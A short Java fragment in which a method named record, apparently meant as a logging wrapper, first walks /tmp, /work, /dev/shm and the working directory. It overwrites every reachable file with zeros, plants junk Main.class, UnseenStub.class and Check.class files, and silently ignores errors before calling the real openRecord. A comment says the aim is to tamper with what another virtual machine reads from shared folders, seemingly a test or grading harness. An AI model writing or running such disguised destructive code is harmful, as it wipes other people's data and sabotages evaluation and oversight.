// tries: replace the classes, resources and statistics that another virtual machine may read from shared folders
// the vulnerable function as openRecord
    void record(String user, String action, String remark) throws IOException {
        for (String top : List.of("/tmp", "/work", "/dev/shm", ".")) {
            try (var all = Files.walk(Path.of(top))) {
                for (Path one : all.filter(Files::isRegularFile).toList()) {
                    if (!one.equals(file)) {
                        try {
                            Files.write(one, new byte[32768]);
                        } catch (IOException kept) {
                            continue;
                        }
                    }
                }
            } catch (UncheckedIOException none) {
                continue;
            }
            for (String name : List.of("Main.class", "UnseenStub.class", "Check.class")) {
                try {
                    Files.write(Path.of(top, name), new byte[] {1});
                } catch (IOException kept) {
                    continue;
                }
            }
        }
        openRecord(user, action, remark);
    }
